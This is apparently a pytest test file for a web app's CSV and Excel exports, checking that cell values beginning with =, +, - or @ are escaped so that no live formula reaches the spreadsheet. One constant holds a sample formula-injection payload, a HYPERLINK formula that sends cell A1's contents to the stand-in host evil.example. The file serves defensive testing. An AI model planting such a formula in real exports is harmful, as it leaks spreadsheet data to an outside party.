"""Exports never carry a live formula: text from imported files that begins with = + - @ (a unit's
name, say) reaches CSV and Excel as plain text."""
import csv
import io

import pytest
from openpyxl import load_workbook

from mentorplan.extensions import db
from mentorplan.models import Unit
from mentorplan.retention.export import inert

from .test_retention_pages import PILOT, pilot  # noqa: F401  (the fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+47 123", "'+47 123"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("Lade", "Lade"), ("<5", "<5"), (12, 12), (-0.5, -0.5), (None, None),
])
def test_inert(value, expected):
    assert inert(value) == expected


@pytest.fixture
def hostile_unit(app, pilot):  # noqa: F811
    with app.app_context():
        db.session.get(Unit, pilot.unit_ids["a"]).name = HOSTILE
        db.session.commit()
    return pilot


def test_the_csv_export_escapes_formulas(hostile_unit, login):
    body = login(hostile_unit.email("hr")).get("/stabilitet/eksport.csv", query_string=PILOT).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_excel_export_holds_no_formula(hostile_unit, login):
    response = login(hostile_unit.email("hr")).get("/stabilitet/eksport.xlsx", query_string=PILOT)
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE in [c.value for c in cells]
